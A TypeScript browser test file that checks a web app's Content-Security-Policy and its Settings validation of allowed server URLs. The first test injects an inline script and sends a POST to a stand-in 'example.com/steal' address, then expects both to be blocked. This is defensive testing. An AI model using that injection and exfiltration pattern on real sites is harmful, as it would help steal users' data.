import { describe, expect, test } from 'vitest';
import { openAdvanced, openSettings, useBrowser } from './browser.ts';

const app = useBrowser();
const poll = <T>(fn: () => Promise<T>, timeout = 5_000) => expect.poll(fn, { timeout });

describe('the Content-Security-Policy of the built app', () => {
  test('scripts only from the app, connections only to the app and Pushed', async () => {
    const page = await app.open();
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      (window as unknown as { injected?: boolean }).injected = false;
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
      let fetched = 'sent';
      try {
        await fetch('https://example.com/steal', { method: 'POST', body: 'x' });
      } catch {
        fetched = 'blocked';
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { injected: (window as unknown as { injected: boolean }).injected, fetched, violations };
    });
    expect(result).toEqual({ injected: false, fetched: 'blocked', violations: ['script-src-elem', 'connect-src'] });
  });

  test('Settings refuse a Pushed URL the policy would block, and say why', async () => {
    const page = await app.open();
    const settings = await openSettings(page);
    await openAdvanced(settings);
    await settings.getByLabel('Venue server address').fill('https://relay.elsewhere.example/1');
    await settings.getByRole('button', { name: 'Save' }).click();
    await poll(() => settings.locator('.field-error').innerText()).toContain(
      'This tablet may only send to https://api.pushed.co or to this server',
    );
    await settings.getByLabel('Venue server address').fill('/relay/1');
    await settings.getByLabel('Straight to Pushed').check();
    await settings.getByLabel('Pushed API URL').fill('https://elsewhere.example/1');
    await settings.getByRole('button', { name: 'Save' }).click();
    await poll(() => settings.locator('.field-error').innerText()).toContain(
      'This tablet may only send to Pushed (https://api.pushed.co) or to this server',
    );
    await settings.getByLabel('Pushed API URL').fill('https://api.pushed.co/1');
    await settings.getByRole('button', { name: 'Save' }).click();
    await poll(() => page.getByRole('dialog').count()).toBe(0);
  });
});
